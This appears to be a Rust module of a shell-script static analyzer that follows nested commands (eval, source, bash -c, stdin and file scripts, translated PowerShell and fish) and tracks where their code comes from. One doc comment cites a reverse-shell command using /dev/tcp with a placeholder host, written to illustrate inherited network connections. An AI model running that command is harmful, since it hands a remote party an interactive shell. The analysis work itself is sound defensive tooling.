//! Commands run by other commands: from words, from scripts, from standard input and from files.

use std::rc::Rc;

use super::dialects::{is_of_fish, of_shebang};
use super::simple::Made;
use super::streams::{Ends, Flow};
use super::{ARGV_LEVELS, Frame, Places, Setting, generators, shortened};
use crate::analysis::Inherited;
use crate::argv::base_name;
use crate::dialect::{Dialects, Feature, Language};
use crate::evaluated::Evaluates;
use crate::expand::Shell;
use crate::fish;
use crate::nested::{Code, Nested, What, by_environment, from_input, nested_in, reads_statements};
use crate::open_files::{OpenFiles, descriptor_number};
use crate::parse::Node;
use crate::powershell;
use crate::prints;
use crate::programs::{self, language};
use crate::state::{Alias, Arguments, Binding, State, Variable};
use crate::stream::{CommandId, Content, Input, Value, Writer, add};
use crate::translation::Translation;
use crate::word::{Cause, Directory, Part, Source, Unknown, Word};

/// The cost of a word that another command runs, in steps.
const WORD: usize = 16;

/// How many bytes of a client's statements are read per step.
const STATEMENTS: usize = 8;

/// The cost of a translated byte, in steps.
const TRANSLATION: usize = 2;

/// The function and the alias of a name, while a builtin bypasses them.
struct BypassedNames {
    function: Option<Rc<Node>>,
    alias: Option<Alias>,
}

impl BypassedNames {
    /// Removes them from a state.
    fn take(state: &mut State, name: &str) -> Self {
        let State { functions, aliases, .. } = state;
        let function = functions.contains_key(name).then(|| Rc::make_mut(functions).remove(name)).flatten();
        let alias = aliases.contains_key(name).then(|| Rc::make_mut(aliases).remove(name)).flatten();
        Self { function, alias }
    }

    /// Puts them back, unless the command has defined others.
    fn restore(self, state: &mut State, name: &str) {
        if let Some(function) = self.function {
            Rc::make_mut(&mut state.functions).entry(name.to_owned()).or_insert(function);
        }
        if let Some(alias) = self.alias {
            Rc::make_mut(&mut state.aliases).entry(name.to_owned()).or_insert(alias);
        }
    }
}

impl Frame<'_> {
    /// Walks what a command runs; `None` if it runs nothing.
    pub(super) fn nested_commands(&mut self, made: &Made<'_>) -> Option<Flow> {
        let mut flow: Option<Flow> = None;
        let mut files = self.program_files(made);
        files.extend(self.copied_program(made));
        files.extend(self.same_as(made));
        // The command is recorded already, with the expanded words.
        let reads_statements = match &made.input.content {
            // Many commands may share one input, and each of them reads it.
            Content::Known(text)
                if self.interpreter.commands.get(made.id.0).is_some_and(|it| reads_statements(&it.words)) =>
            {
                let letters: usize = text.word.parts.iter().filter_map(Part::text).map(str::len).sum();
                self.interpreter.spend(letters / STATEMENTS)
            }
            _ => false,
        };
        let command = self.interpreter.commands.get(made.id.0)?;
        let variables = command.environment.len();
        let stdin = match &made.input.content {
            Content::Known(text) if reads_statements => from_input(&command.words, &text.word),
            _ => Vec::new(),
        };
        let found: Vec<Nested> = nested_in(command)
            .into_iter()
            .chain(stdin)
            .chain(by_environment(&command.words, &command.environment))
            .chain(files)
            .collect();
        // Each variable is compared with those after it.
        self.interpreter.spend(variables * variables / 8);
        for one in found {
            if !self.interpreter.spend(WORD * made.values.len()) {
                break;
            }
            let next = self.one(made, &one);
            flow = Some(match flow {
                Some(flow) => flow.then(next),
                None => next,
            });
        }
        flow
    }

    pub(super) fn one(&mut self, made: &Made<'_>, inner: &Nested) -> Flow {
        let mut setting = self.setting_of(made, inner);
        match &inner.what {
            What::Argv(words) => self.argv(made, inner, &setting, words),
            What::Script(text, arguments) => {
                let text = self.inherit(&made.sources(), made, text);
                self.code_from(made.id, &text.from);
                if matches!(made.name(), Some("mapfile" | "readarray")) {
                    self.within(&setting).evaluates(Evaluates::Script, &text);
                    return self.read_with_callback(made, inner, &setting, &text);
                }
                let arguments = self.arguments(made, inner, arguments, Zero::First);
                self.script_in(made, inner, &mut setting, &text, arguments)
            }
            What::Input(arguments) => {
                let arguments = self.arguments(made, inner, arguments, Zero::Program);
                let mut words = made.values.iter().skip(1).filter_map(|value| value.word.known());
                let input = match words.find(|word| descriptor_number(word) == Some(0)) {
                    // Through this name, a file is read from its beginning.
                    Some(name) if made.reads_file() => {
                        Rc::new(self.read_with(&Word::text(name), &made.redirected.descriptors))
                    }
                    _ => Rc::clone(&made.input),
                };
                self.stream(made, inner, &mut setting, &input, arguments)
            }
            What::File(file) => {
                self.note_script(made, inner, &setting, file);
                let behind = made.values.iter().position(|value| value.word == *file).map_or(0, |at| at + 1);
                let words = made.values.iter().skip(behind).map(|value| value.word.clone());
                // In a process of its own, `$0` is the file.
                let zero = (!inner.setting.in_this_shell).then(|| file.clone());
                let kind = if zero.is_some() { Zero::First } else { Zero::Program };
                let words: Vec<Word> = zero.into_iter().chain(words).collect();
                let arguments = self.arguments(made, inner, &words, kind);
                let input = self.read_here(made, file);
                self.stream(made, inner, &mut setting, &input, arguments)
            }
            What::Foreign(code) => {
                if let Code::File(file) = code {
                    self.note_script(made, inner, &setting, file);
                }
                self.foreign(made, inner, &setting, code)
            }
        }
    }

    fn setting_of(&self, made: &Made<'_>, inner: &Nested) -> Setting {
        let mut setting = self.setting.clone();
        setting.via.push(made.id);
        setting.doubt = setting.doubt.or_else(|| inner.doubt.clone());
        setting.scope = inner.setting.scope.map_or(setting.scope, |scope| scope.max(setting.scope));
        setting.in_loop |= inner.setting.repeats;
        setting.in_background |= inner.setting.in_background;
        setting.input = Rc::clone(&made.input);
        if setting.scope == self.setting.scope {
            self.keep_connections(made, &mut setting);
        }
        setting
    }

    /// A command's child inherits its network connections: `nohup bash -i >& /dev/tcp/H/P`.
    fn keep_connections(&self, made: &Made<'_>, setting: &mut Setting) {
        let Some(command) = self.interpreter.commands.get(made.id.0) else { return };
        for redirect in command.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
            if !setting.redirects.iter().any(|(known, _)| known == redirect) {
                Rc::make_mut(&mut setting.redirects).push((redirect.clone(), self.state.cwd.clone()));
            }
        }
    }

    /// Runs words as a command, in a separate process or in this shell (`command`, `builtin`).
    fn argv(&mut self, made: &Made<'_>, inner: &Nested, setting: &Setting, words: &[Word]) -> Flow {
        let sources = made.sources();
        let values: Vec<Value> = words.iter().map(|word| self.inherit(&sources, made, word)).collect();
        // In zsh, `command` only runs programs.
        let is_program = made.name() == Some("command") && self.state.reading.has(Feature::OfZsh);
        if inner.setting.in_this_shell && inner.setting.environment.is_empty() && !is_program {
            return self.argv_in_this_shell(made, inner, setting, words, &values);
        }
        let mut state = self.state.clone();
        state.functions = Rc::default();
        state.aliases = Rc::default();
        state.descriptors = made.redirected.inside();
        let is_listed = |part: &Part| matches!(part, Part::Unknown(unknown) if unknown.why.source == Source::Listed);
        if words.iter().flat_map(|word| &word.parts).any(is_listed) {
            // The words may come from `xargs`, which has its own standard input.
            state.descriptors.files.may_be_stream(0);
        }
        self.prepare(&mut state, inner, setting);
        let flow = self.apart(&mut state, setting).record(words.to_vec(), &values).contained(Ends::Shell);
        self.state.taken = state.taken;
        flow
    }

    /// Runs words as a command of this shell. These builtins bypass functions and aliases of that name; other names, for
    /// example in an `eval`, still resolve to theirs.
    fn argv_in_this_shell(
        &mut self,
        made: &Made<'_>,
        inner: &Nested,
        setting: &Setting,
        words: &[Word],
        values: &[Value],
    ) -> Flow {
        let name = words.first().and_then(Word::known).unwrap_or_default();
        let bypassed = BypassedNames::take(self.state, name);
        let outside = self.enter(made.redirected);
        let hidden = self.state.hidden.clone();
        if let Some(why) = hiding(inner) {
            self.state.hidden.get_or_insert(why);
        }
        let flow = self.within(setting).record(words.to_vec(), values);
        if hiding(inner).is_some() {
            self.state.hidden = hidden;
        }
        self.leave(&outside, made.redirected);
        bypassed.restore(self.state, name);
        flow
    }

    /// Records a command with expanded words, and walks what it does.
    pub(super) fn record(&mut self, words: Vec<Word>, values: &[Value]) -> Flow {
        if !self.interpreter.enter(ARGV_LEVELS) {
            let text: Vec<String> = words.iter().map(Word::shown).collect();
            self.opaque(Cause::Deep, shortened(&text.join(" ")), Some(text.join(" ")));
            return Flow::unknown();
        }
        let flow = self.followed(words, values);
        self.interpreter.leave(ARGV_LEVELS);
        flow
    }

    fn followed(&mut self, words: Vec<Word>, values: &[Value]) -> Flow {
        let id = self.reserve();
        let redirected = self.no_redirects();
        self.fill(id, words, Vec::new(), &redirected);
        let from = self.sources(Vec::new(), values);
        self.passes(id, values, from);
        let made = Made { id, values, assigned: &[], redirected: &redirected, input: self.stdin() };
        self.effects(&made)
    }

    /// Runs a text as a shell script.
    pub(super) fn script_in(
        &mut self,
        made: &Made<'_>,
        inner: &Nested,
        setting: &mut Setting,
        text: &Value,
        arguments: Option<Arguments>,
    ) -> Flow {
        setting.places = Places::Dropped;
        self.within(setting).evaluates(Evaluates::Script, text);
        if generators::is_output(text) && self.is_generated(&text.from) {
            return Flow::nothing();
        }
        let Some(script) = self.nested(text) else {
            let why = text.word.why().unwrap_or_else(|| Unknown::new(Cause::Decoded, text.word.shown()));
            self.within(setting).opaque(why.cause, why.word, None);
            return Flow::unknown();
        };
        self.embedded(setting, text);
        let is_file = matches!(inner.what, What::File(_));
        let language = match inner.setting.language {
            Language::Bourne if is_file && is_of_fish(text) => Language::Fish,
            language => language,
        };
        let script = self.within(setting).translated(language, script);
        if inner.setting.in_this_shell {
            return self.in_this_shell(made, inner, setting, &script, arguments);
        }
        let mut state = self.state.child(arguments.unwrap_or(Arguments::Unknown));
        state.descriptors = made.redirected.inside();
        self.prepare(&mut state, inner, setting);
        let readers = match &inner.what {
            _ if language != Language::Bourne => Dialects::BASH,
            What::File(_) if inner.setting.reader.is_empty() => of_shebang(text).unwrap_or(inner.setting.reader),
            _ => inner.setting.reader,
        };
        let doubts = self.interpreter.doubts;
        let mut frame = self.apart(&mut state, setting);
        inner.setting.options.iter().for_each(|(option, sign)| frame.set_option(option, *sign));
        let readers = if language == Language::Bourne { frame.readers(readers) } else { readers };
        let flow = frame.each(readers, &script, |frame| frame.whole(&script)).contained(Ends::Shell);
        self.state.taken = state.taken;
        self.outlived(flow, doubts)
    }

    /// Runs a script that changes the state of this shell: `eval`, `.`.
    fn in_this_shell(
        &mut self,
        made: &Made<'_>,
        inner: &Nested,
        setting: &Setting,
        script: &str,
        arguments: Option<Arguments>,
    ) -> Flow {
        let outer = arguments.map(|given| std::mem::replace(&mut self.state.arguments, Rc::new(given)));
        let outside = self.enter(made.redirected);
        let flow = match inner.what {
            // A `return` leaves a sourced script.
            What::File(_) => {
                let jumps = std::mem::take(&mut self.interpreter.jumps);
                let flow = self.within(setting).script(script);
                self.land(jumps, Ends::Function);
                flow.contained(Ends::Function)
            }
            _ => self.within(setting).script(script),
        };
        self.leave(&outside, made.redirected);
        if let Some(outer) = outer {
            self.state.arguments = outer;
        }
        flow
    }

    /// Translates a text into the Bourne shell's language, and records the parts that cannot be translated.
    pub(super) fn translated(&mut self, language: Language, text: String) -> String {
        let Translation { script, unread } = match language {
            Language::Bourne => return text,
            Language::PowerShell => powershell::translate(&text),
            Language::Cmd => powershell::translate_batch(&text),
            Language::Fish => fish::translate(&text),
        };
        self.interpreter.spend(TRANSLATION * (text.len() + script.len()));
        for rest in unread {
            self.opaque(Cause::Foreign, shortened(&rest), Some(rest));
        }
        script
    }

    /// Records an unknown output as opaque if it is inserted into a script and its source may print anything: it may
    /// contain commands.
    fn embedded(&mut self, setting: &Setting, text: &Value) {
        let unknown = text.word.parts.iter().find_map(|part| match part {
            Part::Unknown(unknown) if unknown.why.cause == Cause::Output => Some(unknown.why.word.clone()),
            _ => None,
        });
        let count = self.interpreter.commands.len();
        let is_plain = |writer: &Writer| match writer {
            Writer::Command(id) => id.0 >= count || self.interpreter.name(*id).is_some_and(prints::prints_data),
            Writer::Late(_) => true,
        };
        if let Some(word) = unknown
            && (text.from.is_empty() || !text.from.iter().all(is_plain))
        {
            self.within(setting).opaque(Cause::Output, word, None);
        }
    }

    /// Runs an input as a script.
    fn stream(
        &mut self,
        made: &Made<'_>,
        inner: &Nested,
        setting: &mut Setting,
        input: &Input,
        arguments: Option<Arguments>,
    ) -> Flow {
        self.code_from(made.id, &input.from);
        let file = match &inner.what {
            What::File(file) => file.shown(),
            _ => String::new(),
        };
        match &input.content {
            Content::Unsaid => Flow::nothing(),
            Content::Known(text) => {
                if matches!(inner.what, What::Input(_)) {
                    // The rest of its standard input, after the script, is not known.
                    setting.input = Rc::default();
                }
                self.script_in(made, inner, setting, text, arguments)
            }
            Content::File(file) => {
                if let What::Input(arguments) = &inner.what {
                    let words = std::iter::once(file).chain(arguments).cloned().collect();
                    self.note_script_with(made, inner, setting, words);
                }
                self.unseen(setting, file);
                if inner.setting.in_this_shell {
                    self.state.hide(Unknown::new(Cause::ScriptFile, file.shown()));
                }
                Flow::unknown()
            }
            Content::Unknown if self.is_generated(&input.from) => Flow::nothing(),
            Content::Unknown => {
                self.within(setting).opaque(Cause::Decoded, file, None);
                Flow::unknown()
            }
        }
    }

    /// Returns the content of a file that a command reads.
    pub(super) fn read_here(&mut self, made: &Made<'_>, file: &Word) -> Input {
        match file.known() {
            Some("-") => (*made.input).clone(),
            Some(name) if descriptor_number(name) == Some(0) && !made.reads_file() => (*made.input).clone(),
            _ => self.read_with(file, &made.redirected.descriptors),
        }
    }

    /// Records a script file of which only the name is known.
    fn unseen(&mut self, setting: &Setting, file: &Word) {
        let shown = file.shown();
        let writers = self.possible_writers(file);
        if !writers.is_empty() {
            // It may be a file that the text wrote: the record names its possible writers and the command that runs it,
            // so that rules about either see it.
            let names = writers
                .iter()
                .filter_map(|writer| writer.command())
                .chain(setting.via.last().copied())
                .filter_map(|id| self.interpreter.name(id));
            let names: Vec<&str> = names.collect();
            let text = format!("{} {}", file.literal(), names.join(" "));
            self.within(setting).opaque(Cause::ScriptFile, shown.clone(), Some(text));
        }
        self.within(setting).opaque(Cause::ScriptFile, shown, Some(file.literal()));
    }

    fn foreign(&mut self, made: &Made<'_>, inner: &Nested, setting: &Setting, code: &Code) -> Flow {
        let (content, from) = match code {
            Code::Text(text) => {
                let text = self.inherit(&made.sources(), made, text);
                let from = text.from.clone();
                (Content::Known(text), from)
            }
            Code::Input => (made.input.content.clone(), made.input.from.clone()),
            Code::File(file) => {
                let Input { content, from, .. } = self.read_here(made, file);
                (content, from)
            }
        };
        self.code_from(made.id, &from);
        if made.name().and_then(|name| language(base_name(name))) == Some(programs::Language::Awk) {
            // An Awk program may build the commands that it runs from its input.
            self.code_from(made.id, &made.input.from);
        }
        match content {
            // The content of a program's own file is as unknown as the program itself.
            Content::Unsaid => self.note_unread(made),
            Content::File(file) => {
                if *code == Code::Input {
                    self.note_script_with(made, inner, setting, vec![file]);
                }
                self.note_unread(made);
            }
            Content::Known(text) => {
                if setting.doubt == self.setting.doubt && self.read_code(made, setting, code, &text) {
                    return Flow::unknown();
                }
                let is_known = text.word.known().is_some() || self.nested(&text).is_some();
                let literal = is_known.then(|| text.word.literal());
                let program = made.name().unwrap_or_default();
                let literal = literal.filter(|text| !crate::foreign::runs_computed(program, text));
                self.within(setting).opaque(Cause::Foreign, shortened(&text.word.shown()), literal);
            }
            Content::Unknown => self.within(setting).opaque(Cause::Decoded, "", None),
        }
        Flow::unknown()
    }

    pub(super) fn code_from(&mut self, id: CommandId, from: &[Writer]) {
        if let Some(sources) = self.interpreter.sources.get_mut(id.0) {
            add(&mut sources.code, from);
        }
        self.interpreter.spend(from.len());
    }

    /// Returns `$0`, `$1`, … of the script; `None` if it keeps those of this shell (`eval`).
    fn arguments(&mut self, made: &Made<'_>, inner: &Nested, words: &[Word], zero: Zero) -> Option<Arguments> {
        if inner.setting.in_this_shell && words.is_empty() {
            return None;
        }
        let sources = made.sources();
        let mut values = words.iter().map(|word| self.inherit(&sources, made, word));
        let program = || Value::text(made.name().unwrap_or("bash"));
        let zero = match zero {
            Zero::First => values.next().unwrap_or_else(program),
            Zero::Program => program(),
        };
        Some(Arguments::Known(zero, values.collect()))
    }

    /// Applies the settings of the process that runs the code.
    fn prepare(&mut self, state: &mut State, inner: &Nested, setting: &Setting) {
        if inner.setting.closes_files {
            state.descriptors.files.may_be_closed();
        }
        if setting.scope != self.setting.scope {
            // A shell on another machine has none of this one's state.
            let words = setting.via.last().and_then(|id| self.interpreter.name(*id)).unwrap_or_default().to_owned();
            state.variables = Rc::default();
            state.home = None;
            state.previous = None;
            state.descriptors.files = OpenFiles::default();
            state.cwd = Directory::Unknown(Unknown::new(Cause::Directory, words));
        }
        if let Some(why) = hiding(inner) {
            state.hide(why);
        }
        if let Some(directory) = &inner.setting.directory {
            state.cwd = state.place_of(directory);
        }
        if inner.setting.inherited == Inherited::Nothing {
            state.clear_environment();
        }
        if inner.setting.environment.is_empty() {
            return;
        }
        self.interpreter.spend(state.variables.len());
        for assignment in &inner.setting.environment {
            let binding = match &assignment.value {
                Some(word) => Binding::One(Value { word: Word { span: None, ..word.clone() }, from: Vec::new() }),
                None => Binding::Unset,
            };
            if let Binding::One(value) = &binding {
                self.note_assigned(&assignment.name, value);
            }
            self.function_in_environment(state, &assignment.name, assignment.value.as_ref());
            state.set(&assignment.name, binding.clone());
            let variable = Variable { binding, is_exported: true };
            Rc::make_mut(&mut state.variables).insert(assignment.name.clone(), variable);
        }
    }
}

/// Returns the unknown word that may set variables for the code: `env $X make`, `$WRAPPER make`.
fn hiding(inner: &Nested) -> Option<Unknown> {
    let may_set = |why: &&Unknown| !matches!(why.cause, Cause::Option | Cause::Earlier | Cause::Alias | Cause::Glob);
    inner.doubt.as_ref().filter(may_set).cloned()
}

/// The value of `$0`.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Zero {
    /// The first word after the script.
    First,
    /// The name of the shell.
    Program,
}

impl Made<'_> {
    /// Returns the words that contain the output of commands.
    fn sources(&self) -> Vec<&Value> {
        self.values.iter().filter(|value| !value.from.is_empty()).collect()
    }
}

impl Frame<'_> {
    /// Determines whose output is in a word that was built from the words of a command.
    fn inherit(&mut self, sources: &[&Value], made: &Made<'_>, word: &Word) -> Value {
        let mut value = Value { word: word.clone(), from: Vec::new() };
        let (known, own) = (word.literal(), unknown_parts(word));
        for source in sources {
            if !self.interpreter.spend(source.from.len()) {
                break;
            }
            let is_held = match source.word.known() {
                Some(text) => !text.is_empty() && known.contains(text),
                None => unknown_parts(&source.word).iter().any(|why| own.contains(why)),
            };
            if is_held {
                value.joins(&source.from);
            }
        }
        if own.iter().any(|why| why.cause == Cause::Input) {
            value.joins(&made.input.from);
        }
        value
    }
}

/// Returns the reasons of the unknown parts of a word.
fn unknown_parts(word: &Word) -> Vec<&Unknown> {
    let unknowns = word.parts.iter().filter_map(|part| match part {
        Part::Unknown(unknown) => unknown.matched().is_none().then_some(&unknown.why),
        Part::Text(_) | Part::Glob(_) => None,
    });
    unknowns.collect()
}
